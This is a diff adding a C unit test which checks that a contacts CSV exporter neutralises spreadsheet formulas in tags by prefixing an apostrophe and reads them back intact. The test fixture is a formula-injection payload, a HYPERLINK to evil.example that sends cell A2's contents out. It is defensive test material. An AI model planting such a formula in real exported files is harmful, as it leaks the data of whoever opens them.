@@ -205,6 +205,24 @@ static void test_formulas(void) {
 	is_int(same, 5, "read back exactly, ' and = included");
 	t_free(&cs);
 	free(buf);
+
+	/* The Labels cell (tags joined) is a cell like any other. */
+	const char *tags[] = {"=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")", "b"};
+	struct contact_record r = {.name = "Eve", .tags = tags, .n_tags = 2};
+	struct csv_shape shape = {0};
+	csv_shape_fit(&shape, &r);
+	buf = NULL;
+	f = open_memstream(&buf, &len);
+	csv_write_header(f, &shape);
+	is_int(csv_write(f, &shape, &r), 0, "csv_write: a formula as a tag");
+	fclose(f);
+	ok(strstr(buf, ",\"'=HYPERLINK(") != NULL, "a formula tag goes out with an apostrophe");
+	t_parse(csv_parse, buf, (long)len, &cs);
+	is_str(cs.n == 1 ? t_tags(&cs.cards[0]) : NULL,
+	       "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")|b",
+	       "... and comes back as it was");
+	t_free(&cs);
+	free(buf);
 }
 
 void test_csv(void) {
